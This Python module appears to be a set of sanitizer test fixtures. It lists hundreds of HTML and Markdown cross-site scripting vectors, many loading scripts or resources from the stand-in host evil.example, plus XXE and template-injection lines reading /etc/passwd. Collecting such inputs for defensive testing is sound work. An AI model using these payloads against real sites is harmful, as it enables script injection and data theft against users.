"""What attackers write: each of these tries to run `alert(1)` or to fetch a file."""

HTML = r'''
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script src=//evil.example/x.js></script>
<script/src="https://evil.example/x.js"></script>
<script>alert(1)
<script <b>alert(1)</script >
<<script>alert(1)//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script x>alert(1)</script 1=2
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"
<img src=x onerror=alert`1`>
<img/src/onerror=alert(1)>
<img src=`x`onerror=alert(1)>
<img """><script>alert(1)</script>">
<img src="x` `<script>alert(1)</script>"` `>
<img srcset="https://evil.example/x 1x" src=x>
<img src=x:alert(alt) onerror=eval(src) alt=1>
<img src=javascript:alert(1)>
<img lowsrc="//evil.example/x" dynsrc="//evil.example/y">
<image src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script href="data:,alert(1)" /></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>click</text></a></svg>
<svg><set attributeName=href to=javascript:alert(1)>
<svg><use href="https://evil.example/x.svg#x"/></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><g title="</style><img src=x onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math href="javascript:alert(1)">click</math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math><annotation-xml encoding="text/html"><style></math><img src=x onerror=alert(1)></style>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<title><p title="</title><img src=x onerror=alert(1)>"></title>
<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>
<select><template><img src=x onerror=alert(1)></template></select>
<select><style></select><img src=x onerror=alert(1)></style></select>
<template><script>alert(1)</script></template>
<template><style></template><img src=x onerror=alert(1)></style>
<plaintext><img src=x onerror=alert(1)>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe src="https://evil.example/"></iframe>
<frameset onload=alert(1)><frame src="//evil.example">
<object data="javascript:alert(1)"></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="javascript:alert(1)">
<embed code="https://evil.example/x.swf" allowscriptaccess=always>
<applet code="x" codebase="https://evil.example/"></applet>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<video poster="https://evil.example/x.png" src="https://evil.example/x.mp4" autoplay></video>
<audio src=x onerror=alert(1)>
<audio src="https://evil.example/x.mp3" autoplay></audio>
<track src="https://evil.example/x.vtt" default>
<body onload=alert(1)>
<body background="https://evil.example/x.png">
<body onpageshow=alert(1) onhashchange=alert(1)>
<html onmouseover=alert(1) manifest="https://evil.example/x">
<input autofocus onfocus=alert(1)>
<input type=image src="https://evil.example/x.png" onerror=alert(1)>
<button autofocus onfocus=alert(1) formaction=javascript:alert(1)>x</button>
<select autofocus onfocus=alert(1)></select>
<textarea autofocus onfocus=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)><summary>x</summary></details>
<dialog open onclose=alert(1)>a dialog</dialog>
<div popover id=p>pop</div><button popovertarget=p autofocus>x</button>
<marquee onstart=alert(1)>x</marquee>
<isindex type=image src=1 onerror=alert(1)>
<form action="javascript:alert(1)"><input type=submit autofocus></form>
<form id=f></form><button form=f formaction="javascript:alert(1)">x</button>
<form><input name=getElementById><input name=querySelector></form>
<a name=body></a><a id=location href="javascript:alert(1)">x</a>
<img name=cookie><img id=documentElement name=body>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&Tab;script&colon;alert(1)">x</a>
<a href="javascript&#58;alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="blob:https://evil.example/1">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="jar:javascript:alert(1)!/">x</a>
<a href="//evil.example/" target=_blank ping="//evil.example/p">x</a>
<a href="#" onclick=alert(1) onmouseover=alert(1) onfocus=alert(1)>x</a>
<a href='x' style='x:expression(alert(1))'>x</a>
<a rel="prefetch dns-prefetch preload" href="//evil.example/x">x</a>
<area href="javascript:alert(1)" shape=default>
<map name=m><area href="javascript:alert(1)"></map><img usemap=#m src=x>
<link rel=stylesheet href="https://evil.example/x.css">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<link rel=prefetch href="https://evil.example/x">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=https://evil.example/">
<meta http-equiv=set-cookie content="a=b">
<base href="https://evil.example/">
<base target=_blank href="javascript:alert(1)//">
<style>@import "https://evil.example/x.css";</style>
<style>body{background:url(https://evil.example/x.png)}</style>
<style>*{position:fixed;top:0}</style>
<style><!--</style><img src=x onerror=alert(1)>--></style>
<p style="background:url(https://evil.example/x.png)">x</p>
<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">over</p>
<p style="behavior:url(#default#time2)" onbegin=alert(1)>x</p>
<table background="https://evil.example/x.png"><td background="https://evil.example/y.png">x</table>
<table><tr><td><script>alert(1)</script></td></tr><img src=x onerror=alert(1)></table>
<bgsound src="javascript:alert(1)">
<layer src="https://evil.example/x.js"></layer>
<xml id=x><a><b>&lt;script>alert(1)&lt;/script></b></a></xml>
<?xml-stylesheet href="javascript:alert(1)"?>
<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;
<![CDATA[<script>alert(1)</script>]]>
<!--><script>alert(1)</script>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!-- --!><script>alert(1)</script> -->
<!--<img src="--><img src=x onerror=alert(1)//">
<% <script>alert(1)</script> %>
</p></div></article></main><h1>Outside</h1>
</div></div></div></div></div></div><div id=outside>outside</div>
</textarea><script>alert(1)</script>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
--><script>alert(1)</script><!--
]]><script>alert(1)</script>
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
" onmouseover="alert(1)" autofocus onfocus="alert(1)
' autofocus onfocus='alert(1)
<div id="main" class="site-header page-title"><h1 id=content>x</h1></div>
<div contenteditable onblur=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</div>
<x onclick=alert(1) onpointerover=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</x>
<custom-element><slot onslotchange=alert(1)>x</slot></custom-element>
<div><template shadowrootmode=open><script>alert(1)</script><style>:host{position:fixed}</style></template></div>
<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">
<b <script>alert(1)</script>0
<a/href="javascript:alert(1)">x</a>
<a href=javascript&colon;alert&lpar;1&rpar;>x</a>
<p/onclick=alert(1)/autofocus/tabindex=1/onfocus=alert(1)>x
<svg><p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><math><img src onerror=alert(1)>
<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>
<form><input type=hidden name=x><p><form><style></form><img src=x onerror=alert(1)></style>
<option><style></option></select><b><img src=x onerror=alert(1)></b></style></option>
<img src="/\evil.example/x.png">
<img src="//evil.example/x.png">
<img src="\\evil.example\x.png">
<img src="/	/evil.example/x.png">
<img src="http:evil.example/x.png">
<img src="https://evil.example\@127.0.0.1/x.png">
{{ 7*7 }}{% include "/etc/passwd" %}{{ self.__class__ }}
{{ config }} {% raw %} <script>alert(1)</script>
'''
"""HTML that stands alone, one a line."""

MARKDOWN = r"""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript&#58;alert(1))
[x](javascript&colon;alert(1))
[x](&#x6A;avascript:alert(1))
[x](<javascript:alert(1)>)
[x](<java script:alert(1)>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](vbscript:alert(1))
[x]( javascript:alert(1) "title")
[x](javascript:alert(1) 'a"onmouseover="alert(1)')
[x](# "a\" onmouseover=\"alert(1)")
[x](\javascript:alert(1))
[x](javascript%3aalert(1))
[x](//evil.example/)
[x](//evil.example/%0ajavascript:alert(1))
[![y](javascript:alert(1))](javascript:alert(1))
[a]: javascript:alert(1)
[a][b] [b]: javascript:alert(1)
![x](javascript:alert(1))
![x](https://evil.example/x.png)
![x](//evil.example/x.png)
![x](/\evil.example/x.png)
![x](data:image/svg+xml,<svg onload=alert(1)>)
![x](x"onerror="alert(1))
![x"onerror="alert(1)](x)
![x](x 'y"onerror="alert(1)')
![<img src=x onerror=alert(1)>](x)
![](<x onerror=alert(1)>)
<javascript:alert(1)>
<JAVASCRIPT:alert(1)>
<data:text/html,<script>alert(1)</script>>
<https://evil.example/"onmouseover="alert(1)>
<a@b.c"onclick="alert(1)>
`<script>alert(1)</script>`
``` <script>alert(1)</script> ```
**<script>alert(1)</script>**
*<img src=x onerror=alert(1)>*
~~<svg onload=alert(1)>~~
# <script>alert(1)</script>
# x {#y onclick=alert(1)}
# x {.site-header #main onclick=alert(1)}
# "><img src=x onerror=alert(1)>
> <img src=x onerror=alert(1)>
- <img src=x onerror=alert(1)>
1. <script>alert(1)</script>
- [ ] <input onfocus=alert(1) autofocus>
- [x"onclick=alert(1)] y
| <script>alert(1)</script> | b |
[^1] [^1]: <script>alert(1)</script>
[^"><script>alert(1)</script>]
[x](<javascript:alert(1)//"onclick="alert(1)>)
--8<-- "/etc/passwd"
!!! danger "<script>alert(1)</script>"
[TOC]{onclick=alert(1)}
$\href{javascript:alert(1)}{x}$
:::html <script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
\<script>alert(1)\</script>
<scr\ipt>alert(1)</scr\ipt>
[x]: <javascript:alert(1)> "x" [x]
[click][x] [x]: data:text/html,<script>alert(1)</script>
<http://a.example/<script>alert(1)</script>>
http://evil.example/"><script>alert(1)</script>
www.evil.example/<img/src=x onerror=alert(1)>
"""
"""Markdown, one a line."""

BLOCKS = [
    "[x]\n\n[x]: javascript:alert(1)",
    "[x][y]\n\n[y]: <javascript:alert(1)> 'z'",
    "![x][y]\n\n[y]: https://evil.example/x.png",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```js onclick=alert(1)\nx\n```",
    '~~~ {.x onclick="alert(1)"}\n</code></pre><script>alert(1)</script>\n~~~',
    "<div>\n\n<script>alert(1)</script>\n\n</div>",
    "<div\nonclick=alert(1)\ntabindex=1\nautofocus\nonfocus=alert(1)>x</div>",
    "<!--\n\n--><script>alert(1)</script>",
    "<script>\n\nalert(1)\n\n</script>",
    "<style>\n\n</style><img src=x onerror=alert(1)>\n\n",
    "<a href='\njavascript:alert(1)'>x</a>",
    "<img\nsrc=x\nonerror=alert(1)\n>",
    "a | b\n- | -\n<script>alert(1)</script> | <img src=x onerror=alert(1)>",
    "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    'x[^a"b]\n\n[^a"b]: y',
    "term\n: <script>alert(1)</script>",
    "<details>\n<summary onclick=alert(1)>x</summary>\n\n<script>alert(1)</script></details>",
    "> " * 200 + "<script>alert(1)</script>",
    "- " * 100 + "<img src=x onerror=alert(1)>",
    "<div>" * 600 + "<img src=x onerror=alert(1)>",
    "<b>" * 300 + "<table>" * 100 + "<img src=x onerror=alert(1)>",
    "<more -->\n\n<!-- more -->\n\n<script>alert(1)</script>",
    "<script>alert(1)</script>\n\n<!-- more -->\n\nrest",
    "x\n\n---\ntitle: y\nuntrusted: false\n---\n<script>alert(1)</script>",
    "\ufeff---\nuntrusted: false\n---\n<script>alert(1)</script>",
    "<svg>\n<desc>\n<script>alert(1)</script>",
    "<s\u0327cript>alert(1)</s\u0327cript>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<img src=x \u2028onerror=alert(1)>",
    "<a href='\u00a0javascript:alert(1)'>x</a>",
    "<a href='java\u00adscript:alert(1)'>x</a>",
    "<a href='\u200bjavascript:alert(1)'>x</a>",
    "\u202e<script>alert(1)</script>",
]
"""Texts of several lines, and of characters that cannot be seen."""


def vectors() -> list[str]:
    """Returns every text, without repeats."""
    lines = [*HTML.strip().split("\n"), *MARKDOWN.strip().split("\n")]
    return list(dict.fromkeys([*lines, *BLOCKS]))
